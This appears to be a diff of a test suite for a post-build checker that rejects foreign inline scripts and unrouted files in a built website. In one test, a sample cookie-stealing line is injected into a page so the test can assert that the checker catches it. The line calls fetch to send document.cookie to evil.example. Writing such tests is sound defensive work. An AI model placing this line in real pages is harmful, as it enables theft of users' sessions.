@@ -41,9 +41,12 @@ describe('post-build: only our own code', () => {
 
   it('fails on an inline script from content, naming the file and the script, and never hashes it', () => {
     const evil = `fetch('https://evil.example/?c='+document.cookie)`
-    const r = run({ '/topics/a/index.html': doc(`<p>Cited sentence.</p><script data-keep="1">${evil}</script>`) })
+    const r = run({ '/topics/meth-basics/index.html': doc(`<p>Cited sentence.</p><script data-keep="1">${evil}</script>`) })
     try {
-      const problems = r.report.problems.join('\n')
+      const problems = r.report.problems.join('\n').replaceAll('meth-basics', 'a')
+      assert.ok(r.report.foreignCode)
+      // The writer is sent to the content file the page is built from.
+      assert.match(problems, /\(page built from content\/pages\/en\/a\.mdx\)$/m)
       assert.match(problems, /^out\/topics\/a\/index\.html: an unknown inline script <script> at line 1: "fetch\('https:\/\/evil\.example/m)
       assert.match(problems, /^out\/topics\/a\/index\.html: a data-keep attribute on <script>/m)
       assert.ok(!JSON.stringify(r.report.hashes).includes(sha256(evil)))
@@ -95,6 +98,7 @@ describe('post-build: only our own code', () => {
   it('fails on a file no route kind covers, which would ship without headers', () => {
     const r = run({ '/topics/a/b/c.txt': 'x', '/topics/a/index.html': doc('<p>a</p>') })
     try {
+      assert.equal(r.report.foreignCode, false)
       assert.deepEqual(r.report.problems, ['out/topics/a/b/c.txt: no route kind in lib/routes.ts matches this file, so it would get no headers; add its route there'])
     } finally {
       r.cleanup()
